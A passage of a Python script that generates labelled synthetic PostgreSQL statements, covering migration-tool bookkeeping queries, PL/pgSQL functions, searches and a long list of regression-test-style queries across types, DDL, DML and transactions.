                         'INSERT INTO "public"."flyway_schema_history" ("installed_rank", "version", "description", "type", "script", "checksum", "installed_by", "execution_time", "success") VALUES (%d, %s, %s, \'SQL\', %s, %d, \'tugs\', %d, true)' % ((lambda v: (v, q(str(v)), q("add pilot licences"), q("V%d__add_pilot_licences.sql" % v), r.randint(-2 ** 31, 2 ** 31 - 1), r.randint(5, 900)))(r.randint(2, 200)))])

    @add("cx12_mig_knex", "complex_migration_script")
    def _(r):
        return r.choice(['select * from "knex_migrations_lock"', 'update "knex_migrations_lock" set "is_locked" = 1 where "is_locked" = 0',
                         'insert into "knex_migrations" ("batch", "migration_time", "name") values (%d, %s, %s)' % (r.randint(1, 40), q(ts(r) + ".%03d+00" % r.randint(0, 999)), q("%d%02d%02d%06d_add_chime_volume.js" % (r.randint(2019, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959)))),
                         'update "knex_migrations_lock" set "is_locked" = 0'])

    @add("cx12_mig_prisma", "complex_migration_script")
    def _(r):
        return r.choice(['SELECT "id", "checksum", "finished_at", "migration_name", "logs", "rolled_back_at", "started_at", "applied_steps_count" FROM "_prisma_migrations" ORDER BY "started_at" ASC',
                         '-- CreateTable\nCREATE TABLE "WiringJob" (\n    "id" SERIAL NOT NULL,\n    "treeId" INTEGER NOT NULL,\n    "wiredOn" TIMESTAMP(3) NOT NULL,\n    "removeBy" TIMESTAMP(3) NOT NULL,\n    "wireGauge" DOUBLE PRECISION NOT NULL,\n\n    CONSTRAINT "WiringJob_pkey" PRIMARY KEY ("id")\n);\n\n-- AddForeignKey\nALTER TABLE "WiringJob" ADD CONSTRAINT "WiringJob_treeId_fkey" FOREIGN KEY ("treeId") REFERENCES "BonsaiTree"("id") ON DELETE RESTRICT ON UPDATE CASCADE;'])

    @add("cx12_mig_sequelize", "complex_migration_script")
    def _(r):
        return r.choice(['SELECT "name" FROM "SequelizeMeta" AS "SequelizeMeta" ORDER BY "SequelizeMeta"."name" ASC;',
                         'INSERT INTO "SequelizeMeta" ("name") VALUES (%s) RETURNING "name";' % q("%d%02d%02d%06d-add-bootie-stock.js" % (r.randint(2019, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959))),
                         'CREATE TABLE IF NOT EXISTS "BootieStocks" ("id"   SERIAL , "size" VARCHAR(255), "count" INTEGER, "kennelId" INTEGER, "createdAt" TIMESTAMP WITH TIME ZONE NOT NULL, "updatedAt" TIMESTAMP WITH TIME ZONE NOT NULL, PRIMARY KEY ("id"));'])

    @add("cx12_mig_diesel", "complex_migration_script")
    def _(r):
        return r.choice(["CREATE TABLE IF NOT EXISTS __diesel_schema_migrations (\n       version VARCHAR(50) PRIMARY KEY NOT NULL,\n       run_on TIMESTAMP NOT NULL DEFAULT CURRENT_TIMESTAMP\n)",
                         "SELECT version FROM __diesel_schema_migrations ORDER BY version DESC LIMIT 1",
                         "INSERT INTO __diesel_schema_migrations (version) VALUES (%s)" % q("%d%02d%02d%06d" % (r.randint(2019, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959)))])

    @add("cx12_mig_sqlx", "complex_migration_script")
    def _(r):
        return r.choice(["SELECT version, checksum FROM _sqlx_migrations ORDER BY version",
                         "INSERT INTO _sqlx_migrations ( version, description, success, checksum, execution_time ) VALUES ( %d, %s, TRUE, %s, -1 )" % (r.randint(20190101000000, 20261231235959), q(r.choice(["add ablation stakes", "crevasse width"])), "'\\x%s'" % "".join(r.choice("0123456789abcdef") for _ in range(48))),
                         "SELECT pg_advisory_lock(%d)" % r.randint(10 ** 9, 2 ** 63 - 1)])

    @add("cx12_mig_ecto", "complex_migration_script")
    def _(r):
        return r.choice(['CREATE TABLE "tank_readings" ("id" bigserial, "tank_code" varchar(255) NOT NULL, "ph" numeric, "inserted_at" timestamp(0) NOT NULL, "updated_at" timestamp(0) NOT NULL, PRIMARY KEY ("id"))',
                         'CREATE INDEX "tank_readings_tank_code_index" ON "tank_readings" ("tank_code")',
                         'SELECT s0."version"::bigint FROM "schema_migrations" AS s0 FOR UPDATE'])

    @add("cx12_mig_goose", "complex_migration_script")
    def _(r):
        v = r.randint(1, 300)
        return r.choice(["SELECT version_id, is_applied FROM goose_db_version ORDER BY id DESC",
                         "INSERT INTO goose_db_version (version_id, is_applied) VALUES (%d, true)" % v,
                         "-- +goose Up\n-- +goose StatementBegin\nCREATE TABLE rescue_reports (id bigserial PRIMARY KEY, beach text NOT NULL, reported_at timestamptz NOT NULL DEFAULT now());\n-- +goose StatementEnd"])

    # ---- parameterised statements
    @add("cx12_param", "complex_parameterized")
    def _(r):
        return r.choice(["SELECT id, name, mass_g FROM meteorites_specimen WHERE classification = $1 AND mass_g > $2 ORDER BY mass_g DESC LIMIT $3",
                         "UPDATE beach_flags SET flag_colour = $1, set_by = $2, set_at = now() WHERE beach = $3",
                         "INSERT INTO armoury_loans (item_tag, fencer_licence, due_back) VALUES ($1, $2, current_date + $3::int)",
                         "DELETE FROM tattoo_bookings WHERE id = $1 AND studio_id = $2 RETURNING id",
                         "SELECT callout_id FROM locksmith_callouts WHERE postcode LIKE $1 || '%' LIMIT $2"])

    # ---- PL/pgSQL bodies
    @add("cx12_plpgsql", "complex_plpgsql_body")
    def _(r):
        return r.choice([
            "CREATE OR REPLACE FUNCTION touch_updated_at() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.updated_at := now();\n  RETURN NEW;\nEND;\n$$",
            "CREATE OR REPLACE FUNCTION quake_alert_level(p_volcano text) RETURNS text LANGUAGE plpgsql STABLE AS $fn$\nDECLARE\n  n int;\nBEGIN\n  SELECT count(*) INTO n FROM volcano_quakes WHERE volcano_code = p_volcano AND origin_time > now() - interval '24 hours' AND magnitude >= %.1f;\n  RETURN CASE WHEN n > %d THEN 'ORANGE' WHEN n > 0 THEN 'YELLOW' ELSE 'GREEN' END;\nEND;\n$fn$" % (r.uniform(1.5, 3), r.randint(5, 30)),
            "DO $$\nDECLARE\n  t text;\nBEGIN\n  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'archive' LOOP\n    EXECUTE format('ANALYZE archive.%I', t);\n  END LOOP;\nEND\n$$",
            "CREATE OR REPLACE PROCEDURE close_stale_jobs(p_days int) LANGUAGE plpgsql AS $proc$\nBEGIN\n  UPDATE tug_jobs SET status = 'cancelled' WHERE status = 'open' AND eta < now() - make_interval(days => p_days);\n  COMMIT;\nEND;\n$proc$",
            "CREATE OR REPLACE FUNCTION scoops_guard() RETURNS trigger AS $body$\nBEGIN\n  IF NEW.scoops_left < 0 THEN\n    RAISE EXCEPTION 'truck % would go below zero on %', NEW.truck_id, NEW.flavour;\n  END IF;\n  RETURN NEW;\nEND\n$body$ LANGUAGE plpgsql"])

    # ---- complex searches
    @add("cx12_search", "complex_search_complex")
    def _(r):
        return r.choice([
            "SELECT id, summary, ts_rank_cd(to_tsvector('english', summary), query) AS rank FROM field_observations, websearch_to_tsquery('english', %s) query WHERE to_tsvector('english', summary) @@ query ORDER BY rank DESC LIMIT 20" % q(r.choice(["whumpf -cornice", "\"shooting cracks\" or slab", "surface hoar"])),
            "SELECT name, similarity(name, %s) AS sim FROM puppets WHERE name %% %s ORDER BY sim DESC LIMIT 10" % ((lambda v: (v, v))(q(r.choice(["Punchinelo", "Judyy", "Kasperl", "Guignol"])))),
            "SELECT callsign FROM qso_log WHERE callsign ~ %s AND contest_id = %d ORDER BY callsign" % (q(r.choice(["^(DL|DK|DJ)[0-9]", "/P$", "^[KNW][0-9][A-Z]{2,3}$"])), r.randint(1, 3000)),
            "SELECT m.name, m.classification FROM meteorites_specimen m WHERE m.analysis @> %s::jsonb AND m.name ILIKE %s ORDER BY m.mass_g DESC" % (q('{"group": "H5"}'), q(r.choice(["%gao%", "%allende%", "%camp%"])))])
    return G


# ---------------------------------------------------------------- regression-test-style statements
REGRESS_FIXED = [
 # types
 ("boolean", "SELECT bool 't' AND bool 'f', bool 'yes' OR bool 'no', NOT bool '1'"), ("boolean", "SELECT booleq(true, 'on'::bool), boolne(false, 'off')"),
 ("boolean", "SELECT f1 FROM bool_tbl12 WHERE f1 IS NOT TRUE"), ("char", "SELECT 'a'::char(5) = 'a    '::char(5), octet_length('abc'::char(8))"),
 ("varchar", "SELECT 'abcdef'::varchar(4), length('xyz  '::varchar)"), ("text", "SELECT concat_ws('|', 'one', NULL, 'three'), reverse('regress')"),
 ("text", "SELECT format('%1$s %1$s %2$L', 'x', 'y''z'), quote_ident('Mixed Case'), quote_nullable(NULL)"),
 ("int2", "SELECT i.f1, i.f1 * int2 '2' AS x FROM int2_tbl12 i WHERE abs(f1) < 16384"), ("int4", "SELECT int4 '2147483647' / int4 '-1', int4 '7' % int4 '3'"),
 ("int8", "SELECT q1, q2, q1 << 2 AS shl, q2 >> 1 AS shr FROM int8_tbl12"), ("int8", "SELECT gcd(int8 '288', int8 '-1071'), lcm(int8 '12', int8 '18')"),
 ("oid", "SELECT o.* FROM oid_tbl12 o WHERE o.f1 >= '1234'"), ("float4", "SELECT float4 '1.1754944e-38', float4 '-0.0', float4 'NaN' = float4 'NaN'"),
 ("float8", "SELECT cbrt(float8 '27'), dlog1(float8 '1.0')::text IS NOT NULL, float8 '1e-320'"), ("float8", "SELECT sind(30), cosd(60), atan2d(1, 1)"),
 ("numeric", "SELECT trim_scale(1.2300::numeric), min_scale(12.340), scale(0.00100)"), ("numeric", "SELECT numeric '9.99' ^ 3, sqrt(numeric '2'), ln(numeric '10')"),
 ("numeric", "SELECT width_bucket(5.35, 0.024, 10.06, 5), round(2.5), round(-2.5), trunc(42.8, -1)"), ("numeric", "SELECT factorial(12), numeric_inc(9)"),
 ("bit", "SELECT B'1010' & B'0110', B'1010' | B'0101', B'1010' # B'1111', ~ B'0101'"), ("bit", "SELECT get_bit(B'10110', 2), set_bit(B'0000', 1, 1), bit_count(B'1011')"),
 ("strings", "SELECT 'abc' SIMILAR TO 'a%', 'abc' SIMILAR TO '(a|b)c', substring('foobar' similar '#\"o_b#\"%' escape '#')"),
 ("strings", "SELECT E'\\x41\\102\\u0043', U&'d\\0061t\\+000061', 'unicode: ' || U&'\\00E9'"), ("strings", "SELECT encode('\\x1234567890'::bytea, 'base64'), decode('MTIz', 'base64')"),
 ("strings", "SELECT string_to_array('a,b,,c', ',', ''), array_to_string(ARRAY['x', NULL, 'z'], '-', '*')"), ("strings", "SELECT ltrim('xxabcxx', 'x'), btrim('  pad  '), rtrim('zzz1zz', 'z')"),
 ("strings", "SELECT 'abc' ~ 'b', 'abc' ~* 'B', 'abc' !~ 'd', regexp_count('banana', 'an'), regexp_instr('banana', 'an', 1, 2)"),
 ("strings", "SELECT regexp_substr('a1b22c333', '[0-9]+', 1, 3), regexp_like('Hello', '^h', 'i')"), ("strings", "SELECT unistr('\\0441\\043B\\043E\\043D'), normalize(U&'\\0061\\0308', NFC)"),
 ("numerology", "SELECT 0.1 + 0.2 = 0.3 AS exact, 1e3::int, 1.5e-5"), ("numerology", "SELECT -9223372036854775808::int8, +42, - -7"),
 ("point", "SELECT p.f1, p.f1 <-> point '(0,0)' AS dist FROM point_tbl12 p ORDER BY dist"), ("point", "SELECT point '(1,2)' + point '(3,4)', point '(1,1)' ~= point '(1,1)'"),
 ("lseg", "SELECT lseg '[(0,0),(1,1)]' ?# lseg '[(0,1),(1,0)]', length(lseg '[(0,0),(3,4)]')"), ("line", "SELECT line '{1,-1,0}' ?|| line '{2,-2,5}'"),
 ("box", "SELECT box '(2,2),(0,0)' && box '(3,3),(1,1)', area(box '(4,4),(0,0)'), center(box '(4,4),(0,0)')"), ("path", "SELECT npoints(path '[(0,0),(1,1),(2,0)]'), isclosed(path '((0,0),(1,1))')"),
 ("polygon", "SELECT polygon '((0,0),(2,0),(1,2))' @> point '(1,1)', npoints(polygon '(0,0,1,1,2,0)')"), ("circle", "SELECT circle '<(0,0),5>' @> point '(3,4)', diameter(circle '((1,1),2)')"),
 ("date", "SELECT date '2000-02-29' + 365, date 'infinity' > date '9999-12-31', isfinite(date '-infinity')"), ("date", "SELECT extract(millennium FROM date '2001-01-01'), date_part('dow', date '2025-06-01')"),
 ("time", "SELECT time '23:59:59.999999' + interval '1 microsecond', time '11:00 PM'"), ("timetz", "SELECT timetz '12:00+05' AT TIME ZONE 'UTC', timetz '00:00-03' < timetz '00:00+03'"),
 ("timestamp", "SELECT timestamp '2025-03-30 01:30' + interval '1 hour', date_trunc('quarter', timestamp '2025-08-15 10:00')"),
 ("timestamptz", "SET TimeZone TO 'America/Santiago'"), ("timestamptz", "SELECT timestamptz '2025-04-06 00:30' AT TIME ZONE 'UTC', to_char(now(), 'TZH:TZM') IS NOT NULL"),
 ("timestamptz", "RESET TimeZone"), ("interval", "SELECT interval '1 day 25 hours', justify_days(interval '35 days'), interval '1.5 years'"),
 ("interval", "SELECT interval 'P1Y2M3DT4H5M6S', interval '-1 month' * 2.5, extract(epoch FROM interval '90 minutes')"),
 ("inet", "SELECT inet '10.1.2.3/8' << inet '10.0.0.0/8', host(inet '192.168.0.1/24'), masklen(cidr '10.0.0.0/12')"),
 ("inet", "SELECT set_masklen(inet '192.168.1.5/24', 16), inet_same_family(inet '::1', inet '127.0.0.1'), inet '192.168.1.5' - 5"),
 ("macaddr", "SELECT trunc(macaddr '12:34:56:78:90:ab'), macaddr '08:00:2b:01:02:03' < macaddr '08:00:2b:01:02:04'"), ("macaddr8", "SELECT macaddr8 '08:00:2b:01:02:03:04:05', macaddr8_set7bit('00:08:2b:01:02:03:04:05')"),
 ("uuid", "SELECT uuid '00000000-0000-0000-0000-000000000000' < uuid 'ffffffff-ffff-ffff-ffff-ffffffffffff'"), ("money", "SELECT '12.34'::money * 3, cash_words('1234.56'::money)"),
 ("enum", "CREATE TYPE rainbow12 AS ENUM ('red', 'orange', 'yellow', 'green', 'blue', 'purple')"), ("enum", "SELECT enum_first(NULL::rainbow12), enum_range('orange'::rainbow12, 'green'::rainbow12)"),
 ("enum", "ALTER TYPE rainbow12 ADD VALUE IF NOT EXISTS 'indigo' BEFORE 'purple'"), ("enum", "DROP TYPE rainbow12"),
 ("rangetypes", "SELECT int4range(1, 10) -|- int4range(10, 20), range_merge(int4range(1, 3), int4range(7, 9))"), ("rangetypes", "SELECT numrange(1.1, 2.2) * numrange(2.0, 3.0), isempty(int4range(5, 5))"),
 ("multirangetypes", "SELECT '{[1,3), [5,8)}'::int4multirange @> 6, range_agg(r) FROM (VALUES (int4range(1, 2)), (int4range(4, 6))) v(r)"),
 ("multirangetypes", "SELECT int4multirange(int4range(1, 3), int4range(2, 6)), '{}'::datemultirange"),
 ("json", "SELECT json_build_object('a', 1, 'b', ARRAY[1, 2]), json_object_keys('{\"x\": 1, \"y\": 2}')"), ("json", "SELECT '[1, [2, 3]]'::json #> '{1,0}', json_array_length('[1,2,3]')"),
 ("jsonb", "SELECT '{\"a\": {\"b\": 1}}'::jsonb @> '{\"a\": {}}', jsonb_strip_nulls('{\"a\": null, \"b\": 2}'), jsonb_pretty('[1]')"),
 ("jsonb", "SELECT '{\"a\": 1, \"b\": 2}'::jsonb - 'a', '[\"a\", \"b\"]'::jsonb ?| ARRAY['b', 'c'], jsonb_insert('[1, 3]', '{1}', '2')"),
 ("jsonb", "SELECT ('{\"k\": [10, 20]}'::jsonb)['k'][1], jsonb_path_query_first('{\"a\": [5, 6]}', '$.a[last]')"),
 ("jsonpath", "SELECT '$.store.book[*] ? (@.price < 10).title'::jsonpath, jsonb_path_exists('{\"x\": 3}', '$.x ? (@ > 2)')"),
 ("jsonpath", "SELECT jsonb_path_query('[1, 2, 3]', 'strict $[*] ? (@ >= $min)', '{\"min\": 2}')"),
 ("xml", "SELECT xmlforest('abc' AS foo, 123 AS bar), xmlconcat('<a/>', '<b/>'), xmlpi(name php, 'echo 1;')"), ("xml", "SELECT xpath('/r/i/text()', '<r><i>1</i><i>2</i></r>')"),
 ("xml", "SELECT xmlserialize(content xmlelement(name x, 'y') AS text), xml_is_well_formed('<a>')"),
 ("arrays", "SELECT (ARRAY[[1, 2], [3, 4]])[2][1], array_dims(ARRAY[[1, 2, 3]]), array_ndims('{{1},{2}}'::int[])"), ("arrays", "SELECT array_replace(ARRAY[1, 2, 1], 1, 9), array_remove(ARRAY['a', 'b', 'a'], 'a')"),
 ("arrays", "SELECT '{1,2,3}'::int[] <@ '{0,1,2,3,4}', array_fill(7, ARRAY[2, 2]), trim_array(ARRAY[1, 2, 3, 4], 2)"), ("arrays", "SELECT unnest(ARRAY[1, 2]) AS a, unnest(ARRAY['x', 'y', 'z']) AS b"),
 # DDL
 ("create_table", "CREATE TABLE fk_parent12 (id int PRIMARY KEY, label text COLLATE \"C\" NOT NULL)"), ("create_table", "CREATE TABLE fk_child12 (id int REFERENCES fk_parent12 ON DELETE CASCADE DEFERRABLE INITIALLY DEFERRED, n int)"),
 ("create_table", "CREATE UNLOGGED TABLE scratch12 (k text, v jsonb) WITH (fillfactor = 70)"), ("create_table", "CREATE TEMP TABLE tmp12 ON COMMIT DELETE ROWS AS SELECT 1 AS x"),
 ("create_table", "CREATE TABLE part12 (a int, b text) PARTITION BY LIST (a)"), ("create_table", "CREATE TABLE part12_1 PARTITION OF part12 FOR VALUES IN (1, 2, 3)"),
 ("create_table", "CREATE TABLE part12_def PARTITION OF part12 DEFAULT"), ("create_table", "CREATE TABLE hashp12 (id int) PARTITION BY HASH (id)"),
 ("create_table", "CREATE TABLE hashp12_0 PARTITION OF hashp12 FOR VALUES WITH (MODULUS 4, REMAINDER 0)"), ("create_table", "CREATE TABLE like12 (LIKE fk_parent12 INCLUDING ALL)"),
 ("create_view", "CREATE VIEW v_parent12 WITH (security_barrier) AS SELECT id, upper(label) AS label FROM fk_parent12 WHERE id > 0"),
 ("create_view", "CREATE OR REPLACE RECURSIVE VIEW nums12 (n) AS VALUES (1) UNION ALL SELECT n + 1 FROM nums12 WHERE n < 5"),
 ("create_view", "CREATE VIEW chk12 AS SELECT * FROM fk_parent12 WHERE id < 100 WITH LOCAL CHECK OPTION"),
 ("create_function_sql", "CREATE FUNCTION add12(int, int) RETURNS int LANGUAGE sql IMMUTABLE PARALLEL SAFE RETURN $1 + $2"),
 ("create_function_sql", "CREATE OR REPLACE FUNCTION setof12() RETURNS SETOF int LANGUAGE sql AS 'SELECT generate_series(1, 3)'"),
 ("create_aggregate", "CREATE AGGREGATE sum12 (int) (SFUNC = int4pl, STYPE = int, INITCOND = '0')"),
 ("create_operator", "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq, COMMUTATOR = ===)"),
 ("create_type", "CREATE TYPE comp12 AS (x int, y text)"), ("create_type", "CREATE TYPE floatrange12 AS RANGE (subtype = float8, subtype_diff = float8mi)"),
 ("alter_table", "ALTER TABLE fk_parent12 ADD COLUMN created timestamptz DEFAULT now(), ALTER COLUMN label SET STORAGE EXTERNAL"),
 ("alter_table", "ALTER TABLE fk_parent12 RENAME COLUMN label TO title"), ("alter_table", "ALTER TABLE fk_child12 VALIDATE CONSTRAINT fk_child12_id_fkey"),
 ("alter_table", "ALTER TABLE part12 DETACH PARTITION part12_1"), ("alter_table", "ALTER TABLE part12 ATTACH PARTITION part12_1 FOR VALUES IN (1, 2, 3)"),
 ("alter_table", "ALTER TABLE scratch12 SET LOGGED"), ("alter_table", "ALTER TABLE scratch12 ALTER COLUMN v SET COMPRESSION pglz"),
 ("alter_table", "ALTER TABLE IF EXISTS nosuch12 DROP COLUMN IF EXISTS z"), ("alter_table", "ALTER TABLE fk_parent12 REPLICA IDENTITY FULL"),
 ("sequence", "CREATE SEQUENCE seq12 AS smallint INCREMENT BY -2 MINVALUE -100 MAXVALUE 100 START WITH 10 CYCLE"), ("sequence", "SELECT nextval('seq12'), currval('seq12'), lastval()"),
 ("sequence", "SELECT setval('seq12', 50, false)"), ("sequence", "ALTER SEQUENCE seq12 RESTART WITH 1 NO CYCLE"), ("sequence", "SELECT * FROM pg_sequence_parameters('seq12'::regclass)"),
 ("identity", "CREATE TABLE ident12 (a int GENERATED BY DEFAULT AS IDENTITY (START WITH 100), b text)"), ("identity", "ALTER TABLE ident12 ALTER COLUMN a SET GENERATED ALWAYS"),
 ("identity", "INSERT INTO ident12 (a, b) OVERRIDING SYSTEM VALUE VALUES (1, 'x')"), ("generated", "CREATE TABLE gen12 (a int, b int GENERATED ALWAYS AS (a * 10) STORED)"),
 ("domain", "CREATE DOMAIN posint12 AS int CONSTRAINT pos CHECK (VALUE > 0) NOT NULL"), ("domain", "ALTER DOMAIN posint12 DROP NOT NULL"), ("domain", "SELECT 5::posint12"),
 ("rowtypes", "SELECT ROW(1, 'a')::comp12, (ROW(2, 'b')::comp12).y"), ("rowtypes", "SELECT ROW(1, 2) < ROW(1, 3), ROW(1, NULL) IS NULL, ROW(NULL, NULL) IS NULL"),
 # DML and queries
 ("returning", "INSERT INTO fk_parent12 VALUES (1, 'one'), (2, 'two') RETURNING id, title"), ("returning", "UPDATE fk_parent12 SET title = title || '!' WHERE id = 1 RETURNING *"),
 ("insert_conflict", "INSERT INTO fk_parent12 AS p VALUES (2, 'dup') ON CONFLICT (id) DO UPDATE SET title = EXCLUDED.title WHERE p.title <> EXCLUDED.title"),
 ("insert_conflict", "INSERT INTO fk_parent12 VALUES (3, 'three') ON CONFLICT DO NOTHING"),
 ("merge", "MERGE INTO fk_parent12 p USING (VALUES (3, 'tri'), (4, 'four')) AS s(id, t) ON p.id = s.id WHEN MATCHED AND p.title = 'three' THEN UPDATE SET title = s.t WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.t)"),
 ("merge", "MERGE INTO gen12 g USING fk_parent12 p ON g.a = p.id WHEN MATCHED THEN DELETE"),
 ("update", "UPDATE fk_parent12 SET (id, title) = (SELECT id + 100, title FROM fk_parent12 q WHERE q.id = fk_parent12.id) WHERE id = 4"),
 ("delete", "DELETE FROM fk_child12 c USING fk_parent12 p WHERE c.id = p.id AND p.title LIKE 't%'"), ("delete", "DELETE FROM ONLY scratch12 WHERE v IS NULL"),
 ("join", "SELECT * FROM fk_parent12 p FULL JOIN fk_child12 c USING (id) WHERE COALESCE(p.id, c.id) < 10"), ("join", "SELECT * FROM int4_tbl12 a CROSS JOIN LATERAL (SELECT a.f1 * 2) s(d)"),
 ("join", "SELECT * FROM tenk1 a JOIN tenk1 b ON a.unique1 = b.unique2 AND a.two = 0 WHERE a.unique1 < 5"), ("join", "SELECT t1.f1 FROM int4_tbl12 t1 LEFT JOIN int4_tbl12 t2 ON false"),
 ("subselect", "SELECT * FROM int4_tbl12 WHERE f1 = ANY (SELECT f1 FROM int4_tbl12 WHERE f1 > 0)"), ("subselect", "SELECT (SELECT max(unique1) FROM tenk1 t2 WHERE t2.two = t1.two) FROM tenk1 t1 LIMIT 2"),
 ("subselect", "SELECT * FROM onek WHERE (unique1, ten) IN (SELECT unique2, four FROM tenk1 WHERE unique2 < 5)"), ("subselect", "SELECT NOT EXISTS (SELECT 1 WHERE false)"),
 ("union", "SELECT 1 UNION ALL SELECT 1 UNION SELECT 2 ORDER BY 1"), ("union", "SELECT f1 FROM int4_tbl12 UNION ALL SELECT q1 FROM int8_tbl12 EXCEPT ALL SELECT 0"),
 ("case", "SELECT CASE f1 WHEN 0 THEN 'zero' WHEN 1 THEN 'one' ELSE 'many' END FROM int4_tbl12"), ("case", "SELECT NULLIF(1, 1), COALESCE(NULL, NULL, 3), GREATEST(1, NULL, 2)"),
 ("aggregates", "SELECT string_agg(DISTINCT ten::text, ',' ORDER BY ten::text) FROM tenk1 WHERE unique1 < 30"), ("aggregates", "SELECT every(ten < 10), bit_or(ten), bit_xor(four) FROM tenk1"),
 ("aggregates", "SELECT percentile_cont(ARRAY[0.25, 0.75]) WITHIN GROUP (ORDER BY ten) FROM tenk1"), ("aggregates", "SELECT regr_slope(ten, four), corr(ten, four) FROM tenk1"),
 ("aggregates", "SELECT count(*) FILTER (WHERE four = 1) AS ones, count(*) FROM tenk1"), ("aggregates", "SELECT jsonb_object_agg(four, ten) FROM (SELECT DISTINCT four, ten FROM tenk1 WHERE ten < 2) s"),
 ("window", "SELECT ten, lag(ten, 2, -1) OVER w, lead(ten) OVER w, nth_value(ten, 3) OVER w FROM tenk1 WHERE unique1 < 8 WINDOW w AS (ORDER BY unique1)"),
 ("window", "SELECT four, ntile(3) OVER (ORDER BY four), row_number() OVER () FROM tenk1 WHERE unique2 < 6"),
 ("window", "SELECT x, sum(x) OVER (ORDER BY x ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) FROM generate_series(1, 6) x"),
 ("with", "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n * 2 FROM t WHERE n < 64) CYCLE n SET is_cycle USING path SELECT n FROM t"),
 ("with", "WITH a AS NOT MATERIALIZED (SELECT unique1 FROM tenk1) SELECT count(*) FROM a WHERE unique1 < 10"),
 ("with", "WITH ins AS (INSERT INTO scratch12 VALUES ('k', '{}') RETURNING k) SELECT k FROM ins"),
 ("select_into", "SELECT unique1 INTO TEMPORARY selinto12 FROM tenk1 WHERE unique1 < 3"), ("select_distinct_on", "SELECT DISTINCT ON (four) four, unique1 FROM tenk1 ORDER BY four, unique1 DESC"),
 ("select_implicit", "SELECT count(*) FROM onek GROUP BY four HAVING count(*) > 1 ORDER BY four"), ("limit", "SELECT unique1 FROM onek ORDER BY unique1 FETCH FIRST 3 ROWS ONLY"),
 ("limit", "SELECT unique1 FROM onek ORDER BY unique1 LIMIT ALL OFFSET 995"), ("limit", "SELECT ten FROM tenk1 ORDER BY ten OFFSET 0 ROWS FETCH NEXT 1 ROW WITH TIES"),
 ("prepare", "PREPARE p12 (int, text) AS SELECT $1 AS n, $2 AS t"), ("prepare", "EXECUTE p12(7, 'seven')"), ("prepare", "DEALLOCATE p12"), ("prepare", "SELECT name, statement FROM pg_prepared_statements"),
 ("copy2", "COPY scratch12 (k, v) FROM stdin WITH (FORMAT csv, NULL '\\N', QUOTE '''')"), ("copy2", "COPY (SELECT 1 AS a, 'x' AS b) TO stdout WITH (FORMAT csv, HEADER, FORCE_QUOTE *)"),
 ("copyselect", "COPY (SELECT unique1 FROM tenk1 WHERE unique1 < 3 ORDER BY 1) TO stdout"), ("truncate", "TRUNCATE fk_parent12, fk_child12 RESTART IDENTITY CASCADE"),
 ("triggers", "CREATE TRIGGER trg12 BEFORE UPDATE OF title ON fk_parent12 FOR EACH ROW WHEN (OLD.title IS DISTINCT FROM NEW.title) EXECUTE FUNCTION suppress_redundant_updates_trigger()"),
 ("triggers", "ALTER TABLE fk_parent12 DISABLE TRIGGER trg12"), ("triggers", "DROP TRIGGER IF EXISTS trg12 ON fk_parent12"),
 ("rules", "CREATE RULE r12 AS ON INSERT TO v_parent12 DO INSTEAD INSERT INTO fk_parent12 VALUES (NEW.id, NEW.label)"), ("rules", "DROP RULE IF EXISTS r12 ON v_parent12"),
 ("privileges", "CREATE ROLE regress_priv12 NOLOGIN"), ("privileges", "GRANT SELECT (id) ON fk_parent12 TO regress_priv12"), ("privileges", "REVOKE ALL ON fk_parent12 FROM regress_priv12"),
 ("privileges", "SELECT has_column_privilege('regress_priv12', 'fk_parent12', 'id', 'SELECT')"), ("privileges", "DROP ROLE regress_priv12"),
 ("rowsecurity", "ALTER TABLE fk_parent12 ENABLE ROW LEVEL SECURITY"), ("rowsecurity", "CREATE POLICY p12 ON fk_parent12 FOR SELECT USING (id % 2 = 0)"),
 ("rowsecurity", "ALTER POLICY p12 ON fk_parent12 USING (id > 0)"), ("rowsecurity", "DROP POLICY p12 ON fk_parent12"),
 ("matview", "CREATE MATERIALIZED VIEW mv12 AS SELECT four, count(*) FROM tenk1 GROUP BY four WITH DATA"), ("matview", "REFRESH MATERIALIZED VIEW mv12"),
 ("tablesample", "SELECT count(*) FROM tenk1 TABLESAMPLE SYSTEM (10) REPEATABLE (0)"), ("tsearch", "SELECT to_tsvector('english', 'The quick brown foxes') @@ to_tsquery('english', 'fox & quick')"),
 ("tsearch", "SELECT setweight(to_tsvector('simple', 'alpha beta'), 'A') || to_tsvector('simple', 'gamma'), numnode(plainto_tsquery('a b c'))"),
 ("tsearch", "SELECT ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery), phraseto_tsquery('english', 'fat cat')"),
 ("collate", "SELECT 'a' < 'B' COLLATE \"C\", lower('ÀÉ' COLLATE \"C\")"), ("collate", "CREATE COLLATION IF NOT EXISTS ci12 (provider = icu, locale = 'und-u-ks-level2', deterministic = false)"),
 ("misc_functions", "SELECT pg_column_size(ROW(1, 'abc')), num_nulls(1, NULL, NULL)"), ("misc_functions", "SELECT pg_get_functiondef('add12'::regproc) IS NOT NULL"),
 ("misc_functions", "SELECT pg_input_is_valid('42', 'int4')"), ("sysviews", "SELECT count(*) >= 0 FROM pg_stat_slru"), ("sysviews", "SELECT name, setting FROM pg_settings WHERE name = 'max_connections'"),
 ("portals", "BEGIN; DECLARE c12 SCROLL CURSOR FOR SELECT unique1 FROM tenk1 ORDER BY unique1; FETCH ABSOLUTE 5 FROM c12; FETCH PRIOR FROM c12; CLOSE c12; COMMIT"),
 ("portals", "DECLARE c12h CURSOR WITH HOLD FOR SELECT 1"), ("transactions", "BEGIN; SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE; COMMIT"),
 ("transactions", "START TRANSACTION; SAVEPOINT s1; RELEASE s1; ROLLBACK"), ("transactions", "SHOW default_transaction_isolation"),
 ("advisory_lock", "SELECT pg_try_advisory_lock(12), pg_advisory_unlock(12), pg_advisory_unlock_all()"), ("tidscan", "SELECT ctid, * FROM fk_parent12 WHERE ctid = '(0,1)'"),
